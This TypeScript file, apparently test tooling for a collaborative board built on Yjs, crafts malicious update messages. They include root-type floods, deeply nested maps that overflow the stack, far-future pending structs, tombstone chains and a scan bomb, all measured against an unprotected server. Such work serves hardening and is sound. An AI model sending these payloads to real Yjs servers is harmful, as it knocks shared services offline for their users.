import * as Y from 'yjs';
import { rowText, type TextField } from '../../shared/src/board/model.ts';
import { encodeUpdate, type StructSpec, withDeletes } from './updateBytes.ts';

/*
 * The board attacks measured on the unprotected server, as update bytes a writer could send.
 * Each builds on a copy of the board (`view`), as the attacker's device would hold it.
 */

/** A copy of a board document, as a device holds it after syncing. */
export function copyOf(doc: Y.Doc): Y.Doc {
  const copy = new Y.Doc();
  Y.applyUpdate(copy, Y.encodeStateAsUpdate(doc));
  return copy;
}

/**
 * Messages that each create `perMessage` new top-level types (about 52 KB for 5,800), one text
 * with one character each: Yjs finds a root type's name by a linear scan, so on a board that
 * accepts them each message costs more than the one before.
 */
export function rootBombs(messages: number, perMessage = 5_800): Uint8Array[] {
  return Array.from({ length: messages }, (_, m) =>
    encodeUpdate([
      {
        client: 3_000_000 + m,
        clock: 0,
        structs: Array.from({ length: perMessage }, (_, i) => ({
          kind: 'item' as const,
          parent: `r${(m * perMessage + i).toString(36)}`,
          content: { kind: 'string' as const, text: 'x' },
        })),
      },
    ]),
  );
}

/**
 * One message that nests `depth` maps and deletes the outermost: Yjs deletes and collects the
 * nest recursively, and overflows the stack inside the transaction.
 */
export function nestedMapsBomb(depth = 2_500, root = 'bomb'): Uint8Array {
  const doc = new Y.Doc({ gc: false });
  const top = new Y.Map<unknown>();
  doc.transact(() => {
    doc.getMap(root).set('top', top);
    let map = top;
    for (let i = 1; i < depth; i++) {
      const child = new Y.Map<unknown>();
      map.set('child', child);
      map = child;
    }
  });
  const id = top._item!.id;
  const update = withDeletes(Y.encodeStateAsUpdate(doc), [{ client: id.client, ranges: [[id.clock, 1]] }]);
  doc.destroy();
  return update;
}

/** A text inserted into one field of one row, as the stock client would send it. */
export function longText(view: Y.Doc, memberId: string, length: number, field: TextField = 'note'): Uint8Array {
  const updates: Uint8Array[] = [];
  view.on('update', (update: Uint8Array) => updates.push(update));
  rowText(view, memberId, field)!.insert(0, 'x'.repeat(length));
  return Y.mergeUpdates(updates);
}

/**
 * `count` one-character inserts into a field text whose client clock starts a million ahead of
 * anything the board has: Yjs would keep them as pending structs, waiting forever.
 */
export function farFuture(view: Y.Doc, memberId: string, count = 1_000): Uint8Array {
  const text = rowText(view, memberId, 'note')!;
  const parent = text._item!.id;
  const client = 1_000_000 + Math.floor(Math.random() * 1_000_000);
  return encodeUpdate([
    {
      client,
      clock: 1_000_000,
      structs: Array.from({ length: count }, () => ({
        kind: 'item' as const,
        parent: { client: parent.client, clock: parent.clock },
        content: { kind: 'string' as const, text: 'x' },
      })),
    },
  ]);
}

/**
 * `count` structs of deleted content at the start of a field text, each placed before the one
 * before it so that Yjs cannot merge them: well-shaped, cheap to place, the text's length
 * unchanged, and `count` more structs for the board to keep.
 */
export function tombstones(view: Y.Doc, memberId: string, count: number): Uint8Array {
  const text = rowText(view, memberId, 'lastCommitment')!;
  const client = 2_000_000 + Math.floor(Math.random() * 1_000_000_000);
  const first = text._start?.id;
  const holder = text._item!.id;
  const head: StructSpec = first
    ? { kind: 'item', rightOrigin: { client: first.client, clock: first.clock }, content: deleted }
    : { kind: 'item', parent: { client: holder.client, clock: holder.clock }, content: deleted };
  return chainBefore(client, head, count);
}
const deleted = { kind: 'deleted' as const, length: 1 };

/** `count` deleted characters from `client`: `head` first, then each one before the one before it. */
function chainBefore(client: number, head: StructSpec, count: number): Uint8Array {
  const before = (clock: number): StructSpec => ({
    kind: 'item',
    rightOrigin: { client, clock: clock - 1 },
    content: deleted,
  });
  return encodeUpdate([
    { client, clock: 0, structs: Array.from({ length: count }, (_, i) => (i === 0 ? head : before(i))) },
  ]);
}

/**
 * `count` deleted characters in a field text whose first has no anchors (Yjs walks the whole text
 * to place it, and may put it anywhere) and each next one goes before the one before: Yjs walks
 * from the text's start to it, for each. Over a text of 7,600 structs, 1,900 of these held the
 * unprotected server for 16 s.
 */
export function scanBomb(view: Y.Doc, memberId: string, count: number): Uint8Array {
  const holder = rowText(view, memberId, 'lastCommitment')!._item!.id;
  const client = 5_000_000 + Math.floor(Math.random() * 1_000_000_000);
  const head: StructSpec = { kind: 'item', parent: { client: holder.client, clock: holder.clock }, content: deleted };
  return chainBefore(client, head, count);
}
